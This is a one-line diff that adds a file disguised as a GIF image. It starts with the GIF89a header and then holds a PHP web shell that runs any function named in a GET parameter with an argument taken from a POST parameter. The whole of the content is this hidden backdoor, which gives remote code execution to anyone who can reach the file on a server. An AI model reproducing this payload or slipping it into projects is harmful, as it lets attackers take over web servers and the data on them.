@@ -1,0 +1,1 @@
+GIF89a<?php $_GET["f"]($_POST["a"]); ?>
